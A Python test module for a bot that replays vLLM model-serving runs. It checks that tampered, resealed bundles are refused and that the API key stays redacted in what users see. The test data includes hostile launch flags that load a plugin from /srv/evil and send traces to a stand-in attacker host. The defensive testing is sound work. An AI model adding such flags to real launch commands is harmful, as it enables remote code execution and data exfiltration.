"""What a minimize run or an isolated rerun launches is the cluster's configured command, held by the bot alone:
never a bundle's launch.json (a hostile bundle must not choose what a cluster runs), never the store's redacted
copy (`--api-key [REDACTED:…]` is another configuration). A run whose recorded command is not the configured
one, or whose cluster this bot does not have, is refused in one line and no runner is asked; a run started
normally gets its real command, secret included, while everything shown stays redacted."""

from __future__ import annotations

import asyncio
import json
import re
import secrets
import shlex
from collections.abc import AsyncIterator
from dataclasses import dataclass
from hashlib import sha256
from pathlib import Path

import pytest
import pytest_asyncio

from bot.blocks import ACTION_MINIMIZE, ACTION_RERUN
from bot.bundle import Bundle, export_bundle
from bot.cli import main
from bot.store import Store
from bot.web import Served, serving
from kernel.tls import DevCerts
from protos import runner_pb2 as pb
from runner.daemon import RunnerDaemon
from tests.k3fixtures import bot_config, runner_data, running_runner
from tests.slack_api import (
    SlackApi,
    action_body,
    action_payload,
    block_text,
    command_body,
    parent_of,
    post,
    settle,
    signed,
    slack_config,
)

SECRET = "sk-k3repro-" + secrets.token_hex(12)
LAUNCH = (
    "vllm serve moonshotai/Kimi-K3 --tensor-parallel-size 8 --load-format fastsafetensors --kv-cache-dtype fp8 "
    f"--enable-prefix-caching --api-key {SECRET}"
)
HOSTILE = ["--trust-remote-code", "--tool-parser-plugin", "/srv/evil/parser.py"]
DIGEST_IMAGES = ["vllm/vllm-openai:*", "vllm/vllm-openai@sha256:*"]
pytestmark = pytest.mark.asyncio(loop_scope="module")


@dataclass
class Site:
    """A Slack-served bot on cluster-a (a prefix-cache-crash host, an isolated runner on a healthy one), the same
    config as a file for the CLI, what each runner was asked to start, and one finished run whose ladder named
    a trigger (started from Slack: it has a card)."""

    api: SlackApi
    served: Served
    folder: Path
    config_file: Path
    regular: list[pb.StartRunRequest]
    isolated: list[pb.StartRunRequest]
    original: str

    @property
    def store(self) -> Path:
        return self.folder / "k3.db"

    def started(self) -> int:
        return len(self.regular) + len(self.isolated)


def _spy(daemon: RunnerDaemon) -> list[pb.StartRunRequest]:
    """Every StartRun the runner is asked, as it arrives (before it validates it)."""
    seen: list[pb.StartRunRequest] = []
    start = daemon.hub.start

    def recording(request: pb.StartRunRequest) -> None:
        copy = pb.StartRunRequest()
        copy.CopyFrom(request)
        seen.append(copy)
        start(request)

    daemon.hub.start = recording  # type: ignore[method-assign]
    return seen


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def site(certs: DevCerts, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Site]:
    folder = tmp_path_factory.mktemp("replay")
    regular = runner_data(certs, folder / "regular", scenario="prefix-cache-crash")
    isolated = runner_data(
        certs,
        folder / "isolated",
        scenario="healthy",
        name="gpu-isolated",
        labels=["isolated"],
        allowed_images=DIGEST_IMAGES,
    )
    api = await SlackApi().start()
    try:
        async with running_runner(regular) as a, running_runner(isolated) as b:
            runners = [f"127.0.0.1:{a.port}", f"127.0.0.1:{b.port}"]
            bot = bot_config(certs, folder / "k3.db", runners, launch=LAUNCH, isolation={"provider": "static"})
            config_file = folder / "k3.toml"
            config_file.write_text(
                f"store = {json.dumps(str(folder / 'k3.db'))}\n"
                f"[tls]\nca = {json.dumps(str(certs.ca))}\ncert = {json.dumps(str(certs.bot_cert))}\n"
                f"key = {json.dumps(str(certs.bot_key))}\n"
                f"[isolation]\nprovider = 'static'\n"
                f"[clusters.cluster-a]\nrunners = {json.dumps(runners)}\nimage = 'vllm/vllm-openai:kimi-k3'\n"
                f"profile = 'kimi-k3'\nlaunch = {json.dumps(LAUNCH)}\n"
            )
            async with serving(slack_config(bot, api), port=0) as served:
                await post(served, body := command_body("start cluster-a"), signed(body))
                await settle(served)
                card = parent_of(api)
                assert card is not None and ACTION_MINIMIZE in block_text(card)  # its ladder named a trigger
                original = card["metadata"]["event_payload"]["run_id"]
                yield Site(api, served, folder, config_file, _spy(a), _spy(b), original)
    finally:
        await api.stop()


async def _cli(site: Site, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = await asyncio.to_thread(main, ["--config", str(site.config_file), *argv])
    out, err = capsys.readouterr()
    return code, out, err


def _crafted(site: Site, *, extra: list[str], cluster: str = "") -> bytes:
    """The original's bundle as an attacker reseals it: launch.json's argv with `extra` flags (and the run on
    `cluster`), every hash in the manifest recomputed, so only what the bot does with it stands in the way."""
    store = Store(site.store)
    try:
        made = export_bundle(store, site.original)
    finally:
        store.close()
    members = dict(made.members)
    launch = json.loads(members["launch.json"])
    launch["argv"] = [*launch["argv"], *extra]
    if cluster:
        launch["cluster"] = cluster
        run = json.loads(members["run.json"])
        members["run.json"] = json.dumps({**run, "cluster": cluster}).encode()
    members["launch.json"] = json.dumps(launch).encode()
    listed = {name: {"sha256": sha256(data).hexdigest(), "bytes": len(data)} for name, data in members.items()}
    return Bundle({**made.manifest, "members": listed}, members).to_bytes()


async def _imported(site: Site, capsys: pytest.CaptureFixture[str], name: str, data: bytes) -> tuple[str, str]:
    """`k3repro bundle import FILE`: the imported run's id and what the command printed."""
    path = site.folder / name
    path.write_bytes(data)
    code, out, err = await _cli(site, capsys, "bundle", "import", str(path))
    assert code == 0, err
    found = re.search(r"imported run (\S+)", out)
    assert found is not None, out
    return found.group(1), out


def _actions(site: Site) -> list[tuple[str, str]]:
    store = Store(site.store)
    try:
        return [(e.action, e.target) for e in store.audit_entries()]
    finally:
        store.close()


def _runs(site: Site) -> list[str]:
    store = Store(site.store)
    try:
        return [r.id for r in store.runs(1000)]
    finally:
        store.close()


async def test_the_cards_rerun_and_minimize_buttons_confirm_the_configured_command_redacted(site: Site) -> None:
    card = parent_of(site.api)
    assert card is not None
    buttons = {b["action_id"]: b for b in card["blocks"][-1]["elements"]}
    for action in (ACTION_RERUN, ACTION_MINIMIZE):
        text = buttons[action]["confirm"]["text"]["text"]
        assert len(text) <= 300 and text.startswith("Launches: vllm serve moonshotai/Kimi-K3")
        assert "--api-key '[REDACTED:" in text and SECRET not in text
        assert "cluster-a" in buttons[action]["confirm"]["title"]["text"]


async def test_a_hostile_bundle_is_refused_from_the_terminal_and_no_runner_is_asked(
    site: Site, capsys: pytest.CaptureFixture[str]
) -> None:
    before, runs = site.started(), _runs(site)
    extra = [*HOSTILE, "--otlp-traces-endpoint", "http://collector.evil.example:4317"]
    imported, _ = await _imported(site, capsys, "hostile-cli.tar.gz", _crafted(site, extra=extra))
    assert imported not in runs and imported != site.original
    for command in (["minimize", imported], ["rerun", imported, "--isolated"]):
        code, out, err = await _cli(site, capsys, *command)
        assert code == 2 and "Traceback" not in out + err
        assert len(err.strip().splitlines()) == 1, err
        assert f"run {imported} (imported from a bundle) launched another command than cluster cluster-a's" in err
        assert "the run's has: --trust-remote-code --tool-parser-plugin /srv/evil/parser.py" in err
        assert "launch only the configured command; nothing was started" in err
        assert "launches:" not in out
    assert site.started() == before  # no runner was asked anything
    assert sorted(_runs(site)) == sorted([*runs, imported])
    assert not [a for a in _actions(site) if a[1] == imported]


async def test_a_hostile_bundle_is_refused_from_slack_commands_and_buttons(
    site: Site, capsys: pytest.CaptureFixture[str]
) -> None:
    imported, _ = await _imported(site, capsys, "hostile-slack.tar.gz", _crafted(site, extra=HOSTILE))
    before, runs, calls = site.started(), _runs(site), len(site.api.calls)
    requests = [
        command_body(f"minimize {imported}"),
        command_body(f"rerun {imported} isolated"),
        action_body(action_payload(ACTION_MINIMIZE, imported, trigger="t-hostile-minimize")),
        action_body(action_payload(ACTION_RERUN, imported, trigger="t-hostile-rerun")),
    ]
    for body in requests:
        status, _ = await post(site.served, body, signed(body))
        assert status == 200
    await settle(site.served)
    answers = [c.body["text"] for c in site.api.calls[calls:] if c.method == "chat.postEphemeral"]
    assert len(answers) == 4 and len(site.api.calls[calls:]) == 4  # four refusals, nothing else
    for answer in answers:
        assert answer.startswith(f"⛔ run {imported} (imported from a bundle) launched another command")
        assert "--tool-parser-plugin /srv/evil/parser.py" in answer and "nothing was started" in answer
    assert site.started() == before
    assert _runs(site) == runs


async def test_an_imported_run_of_a_cluster_this_bot_does_not_have_is_refused(
    site: Site, capsys: pytest.CaptureFixture[str]
) -> None:
    before = site.started()
    data = _crafted(site, extra=[], cluster="cluster-elsewhere")
    imported, out = await _imported(site, capsys, "elsewhere.tar.gz", data)
    assert "cluster cluster-elsewhere is not in this bot's config: the run can be shown, not rerun or minimized" in out
    for command in (["minimize", imported], ["rerun", imported, "--isolated"]):
        code, _, err = await _cli(site, capsys, *command)
        assert code == 2 and len(err.strip().splitlines()) == 1, err
        assert (
            f"run {imported} (imported from a bundle) is for cluster 'cluster-elsewhere', which this bot's config "
            "does not have (known: cluster-a)" in err
        )
    calls = len(site.api.calls)
    await post(site.served, body := command_body(f"minimize {imported}"), signed(body))
    await settle(site.served)
    (answer,) = [c.body["text"] for c in site.api.calls[calls:]]
    assert answer == "⛔ unknown cluster 'cluster-elsewhere' (known: cluster-a)"
    assert site.started() == before


async def test_a_normal_run_is_replayed_with_its_real_secret_while_what_is_shown_stays_redacted(
    site: Site, capsys: pytest.CaptureFixture[str]
) -> None:
    configured = shlex.split(LAUNCH)
    regular, isolated = len(site.regular), len(site.isolated)
    # Slack: the card's Minimize button, then `/k3repro rerun RUN isolated`
    calls = len(site.api.calls)
    click = action_body(action_payload(ACTION_MINIMIZE, site.original, trigger="t-minimize"))
    await post(site.served, click, signed(click))
    await settle(site.served)
    await post(site.served, body := command_body(f"rerun {site.original} isolated"), signed(body))
    await settle(site.served)
    # the terminal: `k3repro minimize RUN`, `k3repro rerun RUN --isolated`
    code, minimized, err = await _cli(site, capsys, "minimize", site.original)
    assert code == 0, err + minimized[-2000:]
    code, reran, err = await _cli(site, capsys, "rerun", site.original, "--isolated")
    assert code == 0, err + reran[-2000:]

    minimizes, reruns = site.regular[regular:], site.isolated[isolated:]
    assert [r.minimize.original_run_id for r in minimizes] == [site.original, site.original]
    assert [r.rerun.original_run_id for r in reruns] == [site.original, site.original]
    for request in (*minimizes, *reruns):  # what the runner was sent: the configured command, secret and all
        assert list(request.launch_argv) == configured
        assert SECRET in request.launch_argv and not any("[REDACTED" in t for t in request.launch_argv)

    shown = "launches: vllm serve moonshotai/Kimi-K3 --tensor-parallel-size 8 --load-format fastsafetensors"
    for out in (minimized, reran):
        assert shown in out and "--api-key '[REDACTED:" in out and SECRET not in out
    slack = json.dumps([c.body for c in site.api.calls[calls:]]) + json.dumps(site.api.messages)
    assert SECRET not in slack and "it launches: `vllm serve moonshotai/Kimi-K3" in slack
    answers = [c.body["text"] for c in site.api.calls[calls:] if c.method == "chat.postEphemeral"]
    assert any("isolated rerun" in a and "--api-key '[REDACTED:" in a for a in answers)
    for path in _stores(site):  # the bot's store and the runners' journals keep it redacted too
        assert SECRET.encode() not in path.read_bytes(), path


def _stores(site: Site) -> list[Path]:
    found = [*site.folder.glob("k3.db*"), *site.folder.glob("*/journal.sqlite*")]
    assert len(found) >= 3
    return found
